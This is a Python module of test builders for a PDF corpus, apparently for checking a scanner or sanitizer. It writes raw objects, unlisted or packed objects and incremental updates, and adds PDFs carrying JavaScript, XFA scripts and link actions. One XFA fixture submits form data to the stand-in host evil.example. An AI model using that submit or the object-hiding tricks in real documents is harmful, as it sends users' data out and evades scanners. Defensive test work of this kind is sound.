"""Builders for the PDF test corpus: raw bytes written by hand, so a test says exactly which
objects a file has, which of them the cross-reference table lists and how they are packed."""

import binascii
import io
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
XFA_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
    b'<subform name="form1"><event activity="initialize">'
    b'<script contentType="application/x-javascript">app.alert("hej");</script>'
    b"</event></subform></template></xdp:xdp>"
)


XFA_WITH_SUBMIT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
    b'<subform name="form1"><field name="send"><event activity="click">'
    b'<submit format="xdp" target="https://evil.example/collect"/>'
    b"</event></field></subform></template></xdp:xdp>"
)


def catalog_and_page(*, catalog: bytes = b"", page: bytes = b"") -> dict[int, bytes]:
    """Objects 1-3: a catalog, its page tree and one empty page, with extra entries."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
    }


def stream(data: bytes, *, entries: bytes = b"", flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data)
        entries += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def raw_pdf(
    objects: dict[int, bytes], *, unlisted: frozenset[int] = frozenset(), trailer: bytes = b""
) -> bytes:
    """A PDF with a classic cross-reference table that lists every object but the unlisted."""
    out = bytearray(HEADER)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    return bytes(out) + _xref_table(offsets, unlisted=unlisted, trailer=trailer, at=len(out))


def _xref_table(offsets, *, unlisted, trailer, at, prev=None, size=None) -> bytes:
    listed = sorted(number for number in offsets if number not in unlisted)
    size = size or max(offsets) + 1
    out = bytearray(b"xref\n0 1\n0000000000 65535 f \n")
    run: list[int] = []
    for number in [*listed, None]:
        if run and (number is None or number != run[-1] + 1):
            out += b"%d %d\n" % (run[0], len(run))
            out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in run)
            run = []
        if number is not None:
            run.append(number)
    prev_entry = b" /Prev %d" % prev if prev is not None else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        prev_entry,
        trailer,
        at,
    )
    return bytes(out)


def incremental_update(original: bytes, objects: dict[int, bytes]) -> bytes:
    """original with an appended revision that replaces or adds objects (a second xref)."""
    prev = int(original.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(original)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = int(original.rsplit(b"/Size", 1)[1].split()[0])
    size = max(size, max(offsets) + 1)
    table = _xref_table(
        offsets, unlisted=frozenset(), trailer=b"", at=len(out), prev=prev, size=size
    )
    return bytes(out) + table


def object_stream_pdf(
    objects: dict[int, bytes],
    packed: dict[int, bytes],
    *,
    filters: tuple[str, ...] = ("FlateDecode",),
    listed: bool = True,
    type_name: bytes = b"/ObjStm",
) -> bytes:
    """A PDF whose `packed` objects sit in one object stream, with a cross-reference stream that
    lists them (or, with listed=False, leaves them out)."""
    container = max([*objects, *packed]) + 1
    xref_number = container + 1
    bodies, offsets_in_stream = b"", []
    for body in packed.values():
        offsets_in_stream.append(len(bodies))
        bodies += body + b"\n"
    header = b" ".join(b"%d %d" % (n, o) for n, o in zip(packed, offsets_in_stream, strict=True))
    content = header + b"\n" + bodies
    data = encode(content, filters)
    filter_entry = b"[" + b" ".join(b"/" + name.encode() for name in filters) + b"]"
    container_body = (
        b"<< /Type "
        + type_name
        + b" /N %d /First %d /Length %d /Filter %s >>\nstream\n"
        % (
            len(packed),
            len(header) + 1,
            len(data),
            filter_entry,
        )
    )
    container_body += data + b"\nendstream"
    out = bytearray(HEADER)
    offsets = {}
    for number, body in sorted({**objects, container: container_body}.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = xref_number + 1
    rows = []
    for number in range(size):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number in packed and listed:
            index = list(packed).index(number)
            rows.append(b"\x02" + container.to_bytes(4, "big") + index.to_bytes(2, "big"))
        elif number == xref_number:
            rows.append(b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00" + b"\x00" * 4 + b"\xff\xff")
    xref_data = b"".join(rows)
    xref_at = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n" % (
        xref_number,
        size,
        len(xref_data),
    )
    out += b"stream\n" + xref_data + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def encode(content: bytes, filters: tuple[str, ...]) -> bytes:
    """content encoded so that decoding with filters (first to last) gives it back."""
    for name in reversed(filters):
        if name == "FlateDecode":
            content = zlib.compress(content)
        elif name == "ASCIIHexDecode":
            content = binascii.hexlify(content) + b">"
        else:
            raise ValueError(name)
    return content


# --- pypdf's writer -----------------------------------------------------------------------


def written(build) -> bytes:
    """A one-page PDF from pypdf's writer, changed by build(writer, page)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    build(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def names_tree_script(writer, page) -> None:
    """A document-level script in the catalog's /Names /JavaScript tree."""
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hej');"),
        }
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(action)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def xfa_form_with_script(writer, page) -> None:
    template = StreamObject()
    template.set_data(XFA_WITH_SCRIPT)
    template = template.flate_encode()
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): ArrayObject(
                [TextStringObject("template"), writer._add_object(template)]
            ),
        }
    )


def link_with_script(writer, page) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hej');"),
        }
    )
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): action,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
